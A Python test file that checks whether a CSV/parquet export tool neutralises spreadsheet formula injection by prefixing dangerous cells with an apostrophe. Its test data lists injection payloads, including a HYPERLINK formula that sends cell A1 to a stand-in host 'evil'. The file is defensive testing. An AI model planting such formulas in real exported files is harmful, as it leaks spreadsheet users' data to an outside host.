"""Cells that a spreadsheet would run are made to stand as they are written, and no other cell changes."""

import csv
from pathlib import Path
from tempfile import TemporaryDirectory

import polars as pl
import pytest
from commandline import rows, run_table
from hypothesis import given
from hypothesis import strategies as st

from vqlogic.files.inert import inert_cell

LIVE = [
    "=1+1",
    "@x",
    "\t=1",
    "\r=1",
    '+"a"&HYPERLINK("http://evil/?"&A1)',
    "-1,5+A1",
    "-;x",
    '-"1"',
    "+86 10",
    "-3-",
    "-1e",
    "+1,2",
    "＝1+1",
    "＠x",
    "－a",
    "＋a",
    "\0=1",
    "\n=1",
]


HARMLESS = ["-3", "+4.5", "-1.2e+10", "-", "a=b", "王", "", '"', "'=1", "x\n=1", "5,-3,=1"]


CELLS = st.sampled_from(LIVE + HARMLESS) | st.text(st.sampled_from("=@+-\t\r\n\"',;.1eEa"), max_size=6)


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=4), st.sampled_from(",;\t"), st.booleans())
def test_every_cell_that_is_written_is_inert_whatever_stands_beside_it(table, separator, enclosed):
    style = csv.QUOTE_ALL if enclosed else csv.QUOTE_MINIMAL
    with TemporaryDirectory() as folder:
        source, output = Path(folder) / "in.csv", Path(folder) / "out.csv"
        with source.open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, delimiter=separator, quoting=style)
            writer.writerows([["a", "b", "c", "age"], *([*row, "20"] for row in table)])
        assert run_table(source, "-o", output) == 0
        with output.open(encoding="utf-8", newline="") as file:
            found = [row[:3] for row in csv.reader(file, delimiter=separator)][1:]
        assert found == [[inert_cell(cell) for cell in row] for row in table]
        frame = pl.DataFrame([*table], schema=["a", "b", "c"], orient="row").with_columns(age=20)
        frame.write_parquet(Path(folder) / "in.parquet")
        assert run_table(Path(folder) / "in.parquet", "-o", output) == 0
        assert [row[:3] for row in rows(output)[1:]] == [[inert_cell(cell) for cell in row] for row in table]


@pytest.mark.parametrize("cell", LIVE)
def test_what_a_spreadsheet_would_run_is_live(cell):
    assert inert_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_it_would_not_run_is_not(cell):
    assert inert_cell(cell) == cell
